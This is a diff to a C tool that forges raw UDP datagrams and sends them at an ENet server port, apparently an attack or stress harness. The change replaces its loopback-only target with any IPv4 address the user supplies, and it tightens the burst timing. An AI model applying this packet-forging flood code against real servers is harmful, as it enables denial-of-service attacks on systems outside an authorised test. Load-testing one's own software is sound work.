@@ -3,6 +3,7 @@
 #include "attack/range_bomb.h"
 #include "host/host.h"
 
+#include <arpa/inet.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
@@ -12,7 +13,7 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { MAXIMUM = ENET_PROTOCOL_MAXIMUM_MTU, PAUSE = 1000 /* us */, BURST = 50 /* ms of what is late */ };
+enum { MAXIMUM = ENET_PROTOCOL_MAXIMUM_MTU, PAUSE = 1000 /* us */, BURST = 3 /* ms of what is due */ };
 
 static uint64_t random_state = 88172645463325252u;
 
@@ -24,11 +25,19 @@ static uint32_t next_random(void)
     return (uint32_t) (random_state >> 16);
 }
 
+static struct in_addr server_address;
+
+int attack_find_server(const char *address)
+{
+    return inet_pton(AF_INET, address, &server_address) == 1 ? 0 : -1;
+}
+
 ENetAddress attack_server(void)
 {
-    static const uint8_t loopback[16] = {[10] = 0xff, [11] = 0xff, [12] = 127, [15] = 1};
+    uint8_t mapped[16] = {[10] = 0xff, [11] = 0xff};
     ENetAddress address = {.port = ATTACK_PORT};
-    memcpy(&address.host, loopback, sizeof loopback);
+    memcpy(mapped + 12, &server_address, sizeof server_address);
+    memcpy(&address.host, mapped, sizeof mapped);
     return address;
 }
 
@@ -51,7 +60,10 @@ static double seconds_now(void)
     return (double) now.tv_sec + (double) now.tv_nsec / 1e9;
 }
 
-/* How many are due, after a pause; what is very late is left out. -1 when the time is over. */
+/*
+ * How many are due, after a pause; -1 when the time is over. An attacker that had to wait for the processor is late,
+ * and catches up over several pauses: all at once would be a burst of this machine's making. The report has the rate.
+ */
 static long due(void)
 {
     usleep(PAUSE);
@@ -96,7 +108,7 @@ static int forge(size_t (*fill)(uint8_t *))
 {
     static forged datagram;
     int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = server_address};
     if (fd < 0)
         return 1;
     for (long count; (count = due()) >= 0;) {
